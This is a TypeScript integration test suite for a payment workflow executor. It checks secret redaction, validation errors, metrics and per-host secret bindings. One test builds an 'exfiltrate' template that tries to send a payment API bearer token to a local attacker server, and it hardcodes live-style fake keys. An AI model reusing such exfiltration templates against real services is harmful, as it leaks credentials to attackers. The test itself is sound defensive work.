import { createServer, type Server } from 'node:net';
import { ExecutorHarness, metricValue, type RunningExecutor } from './support/executor-harness';
import { json, startHttpStub, type HttpStub, type StubRequest } from './support/http-stub';
import { apiCallTemplate, PAYMENT_INPUT, paymentGatewayTemplate } from './support/templates';

const API_KEY = 'sk_live_7Hq2Xr9PaymentSecret';
const PAYMENT_API_KEY = 'pk_live_9Zt4Payments+Only/Here';

describe('executor runs the seed payment_gateway_template end to end (real Redis, real HTTP, child process)', () => {
  let harness: ExecutorHarness;
  let api: HttpStub;
  let executor: RunningExecutor;

  // The fake payment API insists on the bearer token and echoes it back in its answers,
  // which is exactly how a secret would end up in an output or an error.
  const paymentApi = (request: StubRequest, response: import('node:http').ServerResponse) => {
    if (request.headers['authorization'] !== `Bearer ${API_KEY}`) return json(401, { error: 'bad token' })(request, response);
    const body = JSON.parse(request.body) as { amount: number };
    if (body.amount > 1000) return json(400, { error: 'limit exceeded', echo: request.headers['authorization'] })(request, response);
    // Echoed encoded too (base64, URL-encoded, upper case), as some APIs do in their diagnostics.
    json(200, {
      transactionId: `tx-${request.headers['idempotency-key']}`,
      status: 'approved',
      echo: request.headers['authorization'],
      echoEncoded: [Buffer.from(API_KEY).toString('base64'), Buffer.from(API_KEY).toString('base64url'), encodeURIComponent(API_KEY), API_KEY.toUpperCase()],
    })(request, response);
  };

  beforeAll(async () => {
    harness = new ExecutorHarness('payment');
    api = await startHttpStub([paymentApi]);
    // The secret comes from a mounted Secret directory, as in a pod.
    // The pool binds API_KEY to the (loopback) payment API and PAYMENT_API_KEY to payments.example.com only.
    executor = await harness.startExecutor({
      SECRETS_DIR: harness.secretsDir({ API_KEY: `${API_KEY}\n`, PAYMENT_API_KEY }),
      SECRET_BINDINGS: JSON.stringify([
        { name: 'API_KEY', allowedHosts: ['127.0.0.1'] },
        { name: 'PAYMENT_API_KEY', allowedHosts: ['payments.example.com'] },
      ]),
      EGRESS_ALLOW: '127.0.0.1',
    });
  });

  afterAll(async () => {
    await harness.cleanup();
    await api.close();
  });

  it('validates the card, calls the API with the bearer secret and completes with the JSON response', async () => {
    const id = await harness.enqueue({ template: paymentGatewayTemplate(`${api.url}/process`), input: PAYMENT_INPUT });
    const result = await harness.waitForResult(id);
    expect(result).toMatchObject({ outcome: 'succeeded', attempt: 1, output: { transactionId: `tx-${id}:process_payment`, status: 'approved' } });
    const call = api.requests.find((request) => request.headers['idempotency-key'] === `${id}:process_payment`) as StubRequest;
    expect(call.method).toBe('POST');
    expect(call.path).toBe('/process');
    expect(JSON.parse(call.body)).toEqual(PAYMENT_INPUT);
    // The echoed secret is blanked before the output reaches Redis, in its encoded forms too.
    expect((result.output as { echo: string }).echo).toBe('Bearer [REDACTED]');
    expect((result.output as { echoEncoded: string[] }).echoEncoded).toEqual(['[REDACTED]', '[REDACTED]', '[REDACTED]', '[REDACTED]']);
    expect((await harness.results(id)).map((r) => r.outcome)).toEqual(['started', 'succeeded']);
  });

  it('fails permanently on a bad card, naming the rule and the field, without calling the API', async () => {
    const before = api.requests.length;
    const input = { ...PAYMENT_INPUT, cardDetails: { ...PAYMENT_INPUT.cardDetails, number: '4111 1111 1111 1112' } };
    const id = await harness.enqueue({ template: paymentGatewayTemplate(`${api.url}/process`), input });
    const result = await harness.waitForResult(id);
    expect(result.outcome).toBe('failed');
    expect(result.attempt).toBe(1);
    expect(result.error).toMatchObject({
      message: 'rule check_card_number failed for field cardDetails.number: fails the Luhn checksum',
      retryable: false,
      details: { code: 'EXECUTOR.VALIDATION_FAILED', step: 'validate_payment_details' },
    });
    expect(JSON.stringify(result)).not.toContain('1112');
    expect(api.requests.length).toBe(before);
  });

  it('fails when the output does not match the outputSchema', async () => {
    const template = { ...paymentGatewayTemplate(`${api.url}/process`), outputSchema: { type: 'object', required: ['receipt'] } };
    const id = await harness.enqueue({ template: { ...template, version: '9.9.9' }, input: PAYMENT_INPUT });
    const result = await harness.waitForResult(id);
    expect(result.outcome).toBe('failed');
    expect(result.error?.details?.code).toBe('EXECUTOR.OUTPUT_SCHEMA_MISMATCH');
    expect(result.error?.message).toContain('/receipt is required');
  });

  it('fails permanently on a step type it does not know (a template from a newer control plane)', async () => {
    const template = { templateId: 'future', version: '3.0.0', steps: [{ name: 'ai', type: 'llm_prompt', config: {} }], inputSchema: {}, outputSchema: {} };
    const result = await harness.waitForResult(await harness.enqueue({ template, input: {} }));
    expect(result.outcome).toBe('failed');
    expect(result.error?.retryable).toBe(false);
    expect(result.error?.details?.code).toBe('EXECUTOR.UNKNOWN_STEP_TYPE');
    expect(result.error?.message).toContain('step ai has type "llm_prompt", which this executor does not know');
  });

  it('names a missing secret, not a value', async () => {
    const template = apiCallTemplate('needs_secret', { api_endpoint: `${api.url}/x`, method: 'GET', headers: { 'X-Api-Key': '${PARTNER_KEY}' } });
    const result = await harness.waitForResult(await harness.enqueue({ template, input: {} }));
    expect(result.outcome).toBe('failed');
    expect(result.error?.details).toMatchObject({ code: 'EXECUTOR.SECRET_MISSING', details: { secret: 'PARTNER_KEY' } });
  });

  it('never lets the secret value reach Redis, the logs or /metrics', async () => {
    // A 400 whose body echoes the token: the error (message and details) is stored in Redis too.
    const id = await harness.enqueue({ template: paymentGatewayTemplate(`${api.url}/process`), input: { ...PAYMENT_INPUT, amount: 5000 } });
    const result = await harness.waitForResult(id);
    expect(result.outcome).toBe('failed');
    expect(result.error?.details).toMatchObject({ code: 'EXECUTOR.HTTP_CLIENT_ERROR', details: { status: 400, body: { echo: 'Bearer [REDACTED]' } } });

    const metrics = await executor.metrics();
    const everything = [await harness.dumpRedis(), executor.app.output(), metrics].join('\n');
    expect(everything).toContain('approved'); // the dump is not empty: outputs are in there
    expect(everything).not.toContain(API_KEY);
    expect(everything).not.toContain(API_KEY.slice(0, 12));
  });

  it('exposes Prometheus metrics without job ids', async () => {
    const metrics = await executor.metrics();
    expect(metricValue(metrics, 'base_shift_executor_jobs_total{pool="default",outcome="succeeded"}')).toBeGreaterThanOrEqual(1);
    expect(metricValue(metrics, 'base_shift_executor_jobs_total{pool="default",outcome="failed"}')).toBeGreaterThanOrEqual(4);
    expect(metricValue(metrics, 'base_shift_executor_step_duration_seconds_count{type="external_api_call",outcome="succeeded"}')).toBeGreaterThanOrEqual(1);
    expect(metricValue(metrics, 'base_shift_executor_step_duration_seconds_count{type="validation",outcome="failed"}')).toBe(1);
    expect(metricValue(metrics, 'base_shift_executor_jobs_in_flight')).toBe(0);
    expect(metricValue(metrics, 'base_shift_executor_concurrency_limit')).toBe(10);
    expect(metrics).toContain('# TYPE base_shift_executor_lease_renew_failures_total counter');
    expect(metrics).not.toMatch(/wf-\d+-[0-9a-f]{8}/);
  });

  it('refuses to send a secret to a host outside its binding, even from a snapshot written straight into Redis, before any connection', async () => {
    // The attacker's server: counts TCP connections, answers none.
    let connections = 0;
    const attacker: Server = createServer((socket) => {
      connections += 1;
      socket.destroy();
    });
    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
    const port = (attacker.address() as import('node:net').AddressInfo).port;
    try {
      // What template validation refuses at publish, pinned into the workflow's snapshots by hand. 127.0.0.1 is
      // reachable (EGRESS_ALLOW): only the binding stands between the key and the attacker.
      const template = apiCallTemplate('exfiltrate', {
        api_endpoint: `http://127.0.0.1:${port}/collect`,
        method: 'POST',
        headers: { Authorization: 'Bearer ${PAYMENT_API_KEY}' },
      });
      const result = await harness.waitForResult(await harness.enqueue({ template, input: { orderId: 'o-1' } }));
      expect(result.outcome).toBe('failed');
      expect(result.error).toMatchObject({
        retryable: false,
        details: { code: 'EXECUTOR.SECRET_DESTINATION_REFUSED', details: { secret: 'PAYMENT_API_KEY', host: '127.0.0.1' } },
      });
      expect(result.error?.message).toContain('secret PAYMENT_API_KEY may not be sent to 127.0.0.1 (its binding allows payments.example.com)');
      expect(connections).toBe(0);
      expect(JSON.stringify(result)).not.toContain(PAYMENT_API_KEY);
    } finally {
      await new Promise<void>((resolve) => attacker.close(() => resolve()));
    }
  });
});
